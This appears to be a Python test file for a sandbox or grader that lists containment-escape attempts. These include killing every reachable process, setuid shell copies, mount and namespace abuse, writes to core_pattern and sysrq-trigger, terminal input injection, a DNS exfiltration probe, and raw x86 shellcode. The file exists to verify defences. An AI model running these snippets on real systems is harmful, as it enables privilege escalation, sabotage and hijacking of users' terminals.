"""Escaping: out of the folder, out of the process, out of the machine."""

from tests.attacks.attack import Attack

ESCAPING = (
    Attack(
        "writing to an open file",
        "changes a file that every user may write",
        "open(WRITABLE, 'a').write('x')",
        telling=True,
        landlock=True,
    ),
    Attack(
        "a hard link",
        "links a file of the judge's into its folder and changes that",
        "os.link(WRITABLE, 'mine'); open('mine', 'a').write('x')",
    ),
    Attack(
        "moving a file out",
        "moves its own file into a folder open to all",
        "open('f', 'w').close(); os.rename('f', f'{SHARED}/canary-{TOKEN}')",
        landlock=True,
    ),
    Attack(
        "emptying by reading",
        "opens a file read-only and truncated",
        "os.open(WRITABLE, os.O_RDONLY | os.O_TRUNC); os.truncate(WRITABLE, 0)",
    ),
    Attack("removing", "removes a file in a folder open to all", "os.remove(WRITABLE)", landlock=True),
    Attack(
        "through /proc",
        "reaches outside by the magic links of /proc",
        "open('/proc/self/root' + WRITABLE, 'a').write('x')",
        landlock=True,
    ),
    Attack(
        "a connection",
        "connects to a server on this machine",
        "s = socket.create_connection(('127.0.0.1', PORT), 1); s.send(b'hello')",
        telling=True,
    ),
    Attack(
        "a datagram",
        "sends one to this machine",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'hello', ('127.0.0.1', PORT))",
    ),
    Attack("a name to look up", "asks the name server", "socket.gethostbyname(f'{TOKEN}.example.com'); touch(SHARED)"),
    Attack(
        "a unix socket",
        "connects to a server of another process by file",
        "s = socket.socket(socket.AF_UNIX); s.connect(UNIX); s.send(b'hello')",
        telling=True,
    ),
    Attack(
        "an abstract unix socket",
        "takes the names by which graders claim their users",
        "s = socket.socket(socket.AF_UNIX); s.bind('\\0inithw-worker-0-99'); touch(SHARED)",
    ),
    Attack(
        "a raw connection", "the system call, not the library", "number = call('syscall', 41, 2, 1, 0); touch(SHARED)"
    ),
    Attack(
        "killing the judge",
        "signals to its ancestors",
        """
        for pid in (JUDGE, os.getppid()):
            for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
                try: os.kill(pid, number)
                except OSError: pass
        """,
        telling=True,
    ),
    Attack(
        "killing all",
        "signals to every process and group that may be reached",
        """
        for pid in (-1, 0, -os.getpgrp()):
            try: os.kill(pid, signal.SIGKILL)
            except OSError: pass
        """,
    ),
    Attack(
        "signals by thread",
        "tgkill, rt_sigqueueinfo and pidfds instead of kill",
        """
        for number, arguments in ((234, (JUDGE, JUDGE, 9)), (200, (JUDGE, 9)), (129, (JUDGE, 9, 0)), (434, (JUDGE, 0))):
            try: call("syscall", number, *arguments)
            except OSError: pass
        """,
    ),
    Attack("tracing the judge", "ptrace", "call('ptrace', 16, JUDGE, 0, 0); touch(SHARED)"),
    Attack(
        "another user",
        "becomes root, or the neighbour",
        """
        for uid in (0, os.getuid() + 1, os.getuid() - 1):
            try: os.setresuid(uid, uid, uid); touch(SHARED)
            except OSError: pass
        """,
        telling=True,
    ),
    Attack(
        "set-uid",
        "makes a file that runs as its owner, and runs the system's",
        """
        import shutil, subprocess
        shutil.copy("/bin/sh", "sh"); os.chmod("sh", 0o6777)
        if os.stat("sh").st_mode & 0o6000: touch(SHARED)
        subprocess.run(["su", "-c", "true"])
        """,
    ),
    Attack(
        "namespaces", "a user namespace in which it is root", "call('unshare', 0x10000000); touch(SHARED)", telling=True
    ),
    Attack(
        "mounting",
        "mounts over what the judge reads",
        "call('mount', b'none', SHARED.encode(), b'tmpfs', 0, 0); touch(SHARED)",
    ),
    Attack("another root", "chroot and back out", "os.chroot('.'); touch(SHARED)"),
    Attack(
        "devices",
        "makes the disk's device in its own folder",
        "os.mknod('disk', 0o60600, os.makedev(254, 0)); touch(SHARED)",
    ),
    Attack(
        "the kernel's depths",
        "bpf, io_uring, userfaultfd, perf, keyrings, modules",
        """
        calls = {321: (0, 0, 0), 425: (1, 0), 323: (0,), 298: (0, 0, -1, -1, 0), 175: (0, 0, 0), 246: (0, 0, 0, 0)}
        for number, arguments in calls.items():
            ctypes.set_errno(0); libc.syscall(number, *arguments)
            if ctypes.get_errno() not in (1, 38): touch(SHARED)
        """,
    ),
    Attack(
        "more rights for itself",
        "raises its limits, its priority, its chance to survive",
        """
        import resource
        for change in (
            lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)),
            lambda: resource.prlimit(JUDGE, resource.RLIMIT_NOFILE, (0, 0)),
            lambda: os.setpriority(os.PRIO_PROCESS, JUDGE, 19),
            lambda: os.sched_setaffinity(0, range(os.cpu_count())),
            lambda: call("prctl", 4, 1, 0, 0, 0),
        ):
            try: change(); touch(SHARED)
            except (OSError, ValueError): pass
        """,
    ),
    Attack(
        "32-bit system calls",
        "interrupt 0x80, whose numbers a careless filter does not know",
        """
        import mmap
        page = mmap.mmap(-1, 4096, prot=7)
        page.write(bytes.fromhex("53b802000000cd805bc3"))  # fork
        ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
        """,
    ),
    Attack(
        "kernel settings",
        "writes to /proc/sys, /sys and its own oom score",
        """
        for path in ("sys/kernel/core_pattern", "self/oom_score_adj", f"{JUDGE}/oom_score_adj", "sysrq-trigger"):
            try:
                with open("/proc/" + path, "w") as file: file.write("-1000" if "oom" in path else "h")
                touch(SHARED)
            except OSError: pass
        """,
    ),
    Attack(
        "a terminal",
        "types into the terminal of who started the grading",
        """
        import fcntl, termios
        fcntl.ioctl(os.open("/dev/tty", os.O_RDWR), termios.TIOCSTI, b"x"); touch(SHARED)
        """,
    ),
    Attack(
        "a library of its own",
        "loads machine code from its folder, which calls the kernel directly",
        """
        import mmap
        page = mmap.mmap(-1, 4096, prot=7)
        page.write(bytes.fromhex("b83b000000" "31ff31f631d2" "0f05" "c3"))  # execve by system call
        ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
        raise SystemExit
        """,
    ),
)
